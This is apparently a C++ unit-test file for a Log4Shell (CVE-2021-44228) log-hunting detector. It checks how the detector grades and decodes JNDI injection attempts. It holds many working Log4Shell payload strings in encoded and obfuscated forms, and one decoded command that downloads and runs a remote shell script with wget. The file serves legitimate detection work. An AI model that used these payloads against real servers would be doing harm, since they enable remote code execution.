#include "hunt/detection.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <string>
#include <vector>

namespace l4s::hunt {
namespace {

TEST(DetectionTest, PlainAttempt) {
  auto d = examine_line(
      "45.137.21.9 - - [11/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" "
      "\"${jndi:ldap://45.137.21.9:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2QgK3ggbGguc2g7Li9saC5zaA==}\"");
  ASSERT_TRUE(d);
  EXPECT_EQ(d->verdict, Verdict::kReachesJndi214);
  EXPECT_EQ(d->severity, Severity::kHigh);
  ASSERT_EQ(d->jndi.size(), 1u);
  EXPECT_EQ(d->jndi[0].host, "45.137.21.9");
  EXPECT_EQ(d->jndi[0].port, 1389);
  EXPECT_EQ(d->decoded_command, "wget http://62.210.130.250/lh.sh;chmod +x lh.sh;./lh.sh");
  EXPECT_TRUE(d->layers.empty());
}

// Layers something upstream of Log4j decodes: a server decodes the request
// target (repeatedly, as proxies chain) and Basic credentials; a JSON layout
// escaped its values.
TEST(DetectionTest, ReachesAfterWhatUpstreamDecodes) {
  struct Case {
    const char* line;
    const char* name;
    std::vector<std::string> layers;
  } cases[] = {
      {"1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET /?a=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D "
       "HTTP/1.1\" 200 5",
       "ldap://198.51.100.23:1389/a", {"url"}},
      {"GET /%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D HTTP/1.1", "ldap://x.example/a", {"url", "url"}},
      {"{\"ua\":\"${jndi:ldap:\\/\\/x.example\\/a}\"}", "ldap://x.example/a", {}},
      {"{\"message\":\"\\u0024{jndi:rmi://x.example/a}\"}", "rmi://x.example/a", {}},
      {"Authorization: Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06cHc=", "ldap://x.example/a", {"basic_auth"}},
      {"GET /?q=$${jndi:ldap://x.example/a} ${nope}", "ldap://x.example/a", {}},
      {"ua=\"${jnd${upper:\xC4\xB1}:ldap://x.example/a}\"", "ldap://x.example/a", {}},
  };
  for (const Case& c : cases) {
    auto d = examine_line(c.line);
    ASSERT_TRUE(d) << c.line;
    EXPECT_EQ(d->verdict, Verdict::kReachesJndi214) << c.line;
    ASSERT_FALSE(d->jndi.empty()) << c.line;
    EXPECT_EQ(d->jndi[0].name, c.name) << c.line;
    std::vector<std::string> layers;
    for (Layer l : d->layers) layers.emplace_back(layer_name(l));
    EXPECT_EQ(layers, c.layers) << c.line;
  }
}

// Attempts Log4j 2.14.1 leaves unexpanded: reported, but as inert and low,
// with the names the sender aimed at and what it would have needed.
TEST(DetectionTest, InertAttempts) {
  struct Case {
    const char* line;
    const char* why;  // the technique saying why
    std::vector<std::string> layers;
  } cases[] = {
      // Encoded where nothing decodes it: a plain application log, a header, a logged body.
      {"2021-12-10 12:00:00 INFO ua=\\u0024\\u007bjndi:rmi://x.example/a\\u007d", "needs_decoding", {"unicode_escape"}},
      {"1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"%24%7Bjndi:ldap://x.example/a%7D\"",
       "needs_decoding", {"url"}},
      {"comment=&#36;{jndi:dns://x.example} and more", "needs_decoding", {"html_entity"}},
      {"comment=$&lbrace;jndi:dns://x.example&rbrace; and more", "needs_decoding", {"html_entity"}},
      {"{\"message\":\"\\\\u0024{jndi:ldap://x.example/a}\"}", "needs_decoding", {"unicode_escape"}},
      // A lookup prefix that does not exist: its base64 argument is never decoded.
      {"X-Api-Version: ${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}", "needs_decoding", {"base64"}},
      // Escaped, or never closed; a JSON line's own '}' does not close the value.
      {"GET /?q=$${jndi:ldap://x.example/a}", "escaped_lookup", {}},
      {"user agent ${jndi:ldap://x.example/a", "unterminated_lookup", {}},
      {"{\"msg\":\"${jndi:ldap://x.example/a\"}", "unterminated_lookup", {}},
  };
  for (const Case& c : cases) {
    auto d = examine_line(c.line);
    ASSERT_TRUE(d) << c.line;
    EXPECT_EQ(d->verdict, Verdict::kInert) << c.line;
    EXPECT_EQ(d->severity, Severity::kLow) << c.line;
    ASSERT_FALSE(d->jndi.empty()) << c.line;
    EXPECT_NE(std::find(d->techniques.begin(), d->techniques.end(), c.why), d->techniques.end()) << c.line;
    std::vector<std::string> layers;
    for (Layer l : d->layers) layers.emplace_back(layer_name(l));
    EXPECT_EQ(layers, c.layers) << c.line;
  }
  // What Log4j logged is the value itself.
  EXPECT_EQ(examine_line("user agent ${jndi:ldap://x.example/a")->resolved, "user agent ${jndi:ldap://x.example/a");
}

// research/hunting.md sections 2.1 and 7.4: what other tools flag wrongly.
TEST(DetectionTest, NoFalseAlarms) {
  for (const char* line : {
           "Property ${jboss.server.base.dir} jndi binding: ldap://corp.example:389/dc=corp",
           "Using ${JAVA_HOME} ; JNDI name java:jboss/datasources/ExampleDS bound; ldap: ok",
           "GET /search?q=${jquery.min} HTTP/1.1 ndi: lda p:",
           "${jenkins.url} node dispatched in 3 ms: load avg p: 0.1",
           "Template ${solution-user.name} applied",
           "debconf: ${REMOVED_DEVICES}",
           "GET /?gdpr=${GDPR} HTTP/1.1",
           "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=${@phpinfo()}",
           "export PATH=${PATH}:${HOME}/bin",
           "redirect to https://${system.urlhostname}:${port}/ui",
           "Exception in thread DataNode$PacketResponder: $HOME",
           "{\"msg\":\"price %2450 ${solution-user.name}\",\"q\":\"$filter=a&%24top=5\"}",
       }) {
    EXPECT_FALSE(examine_line(line)) << line;
  }
}

TEST(DetectionTest, Grades) {
  EXPECT_EQ(examine_line("${jndi:ldap://127.0.0.1#evil.example:1389/a}")->severity, Severity::kCritical);
  EXPECT_EQ(examine_line("${jndi:LDAP://x.example/a}")->severity, Severity::kMedium);  // non-functional scheme
  auto dos = examine_line("${${::-${::-$${::-j}}}}");
  ASSERT_TRUE(dos);
  EXPECT_EQ(dos->verdict, Verdict::kDosOnly);
  EXPECT_EQ(dos->severity, Severity::kLow);
}

TEST(DetectionTest, ExploitCommand) {
  EXPECT_EQ(decode_exploit_command("/Basic/Command/Base64/aWQ="), "id");
  EXPECT_EQ(decode_exploit_command("/TomcatBypass/Command/base64/aWQ"), "id");
  EXPECT_EQ(decode_exploit_command("/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8veC9i"), "cd /tmp; wget http://x/b");
  EXPECT_EQ(decode_exploit_command("/Basic/Command/Base64//aWQ="), "");  // JNDIExploit itself does not decode this
  EXPECT_EQ(decode_exploit_command("/Basic/ReverseShell/1.2.3.4/4444"), "");
}

TEST(DetectionTest, ScanBlockPositions) {
  std::string block =
      "clean line\n"
      "another $5 line\r\n"
      "GET /${jndi:ldap://x.example/a} HTTP/1.1\r\n"
      "${jenkins.url}\n"
      "last ${jndi:rmi://y.example/b}";
  std::vector<Detection> found;
  uint64_t lines = scan_block(block, 1000, 41, [&](Detection&& d) { found.push_back(std::move(d)); });
  EXPECT_EQ(lines, 5u);
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].line, 43u);
  EXPECT_EQ(found[0].offset, 1000u + block.find("GET"));
  EXPECT_EQ(found[0].raw, "GET /${jndi:ldap://x.example/a} HTTP/1.1");
  EXPECT_EQ(found[1].line, 45u);
  EXPECT_EQ(found[1].jndi[0].host, "y.example");
}

TEST(DetectionTest, VeryLongLinesAreExaminedInWindows) {
  // Payloads far apart in a multi-megabyte line, one of them base64: each is
  // found (one evaluation of the whole line would exhaust its budget).
  std::string filler;
  while (filler.size() < 3 * kMaxExamined) filler += std::string(40000, 'x') + " ${placeholder} ";
  std::string encoded = "Authorization: Basic " + std::string("bG9nNHNoZWxsOiR7am5kaTpsZGFwOi8vYjY0LmV4YW1wbGUvYX0=");
  std::string block = "first\n" + filler + "${jndi:ldap://mid.example/a} " + filler + encoded + " " + filler +
                      "${jndi:dns://tail.example/x}\nnext ${jndi:ldap://next.example/b}\n";
  std::vector<Detection> found;
  uint64_t lines = scan_block(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); });
  EXPECT_EQ(lines, 3u);
  std::vector<std::string> hosts;
  for (const Detection& d : found) {
    if (d.jndi.empty()) continue;
    hosts.push_back(d.jndi[0].host);
    EXPECT_EQ(d.offset, d.jndi[0].host == "next.example" ? block.find("next") : 6u);
  }
  EXPECT_EQ(hosts, (std::vector<std::string>{"mid.example", "b64.example", "tail.example", "next.example"}));
  for (const Detection& d : found) EXPECT_NE(d.verdict, Verdict::kDosOnly) << d.raw.substr(0, 80);
}

TEST(DetectionTest, PlainPlaceholderLinesAreSkippedOnlyWhenInert) {
  auto scan = [](const std::string& block, const LookupEnvironment& env = {}) {
    std::vector<Detection> found;
    scan_block(block, 0, 1, [&](Detection&& d) { found.push_back(std::move(d)); }, env);
    return found;
  };
  EXPECT_TRUE(scan("build ${BUILD_NUMBER} of ${JOB_NAME} ${project.version} $${x} ${a-b_c.d}\n").empty());
  // A plain placeholder beside a lookup, an escape or an encoding: evaluated.
  std::vector<std::string> attacks = {
      "${BUILD} ${jndi:ldap://a.example/x}\n",
      "${BUILD} $${jndi:ldap://b.example/x} ${nope}\n",  // the %m rescan
      "${BUILD} %24%7Bjndi:ldap://c.example/x%7D\n",
      "${BUILD} ${${lower:j}ndi:ldap://d.example/x}\n",
  };
  for (const std::string& line : attacks) EXPECT_EQ(scan(line).size(), 1u) << line;
  // A property whose value holds a lookup makes plain placeholders live.
  LookupEnvironment env;
  env.properties["evil"] = "${jndi:ldap://e.example/x}";
  std::vector<Detection> found = scan("user ${evil}\n", env);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].jndi[0].host, "e.example");
}

// Acceptance: every real header payload in Corelight's Zeek notice.log
// (11-13 December 2021) is found with the callback host Zeek extracted.
TEST(DetectionTest, CorelightNoticeLog) {
  std::string path = std::string(L4S_FIXTURES_DIR) +
                     "/attack-data/corelight-cve-2021-44228/testing/Baseline/"
                     "log4j.2021-12-11-thru-13-server-activity-with-log4j-attempts/notice.log";
  std::ifstream in(path);
  if (!in) GTEST_SKIP() << "fixture missing: " << path;
  std::string line;
  int checked = 0;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == '#') continue;
    size_t v = line.find("header value='");
    size_t h = line.find("payload_host=");
    ASSERT_NE(v, std::string::npos);
    ASSERT_NE(h, std::string::npos);
    std::string value = line.substr(v + 14, line.find("'", v + 14) - v - 14);
    std::string host = line.substr(h + 13, line.find(',', h) - h - 13);
    auto d = examine_line(value);
    ASSERT_TRUE(d) << value;
    bool found = false;
    for (const JndiTarget& t : d->jndi) found |= t.host == host;
    EXPECT_TRUE(found) << value << " -> expected host " << host;
    ++checked;
  }
  EXPECT_EQ(checked, 27);
}

}  // namespace
}  // namespace l4s::hunt
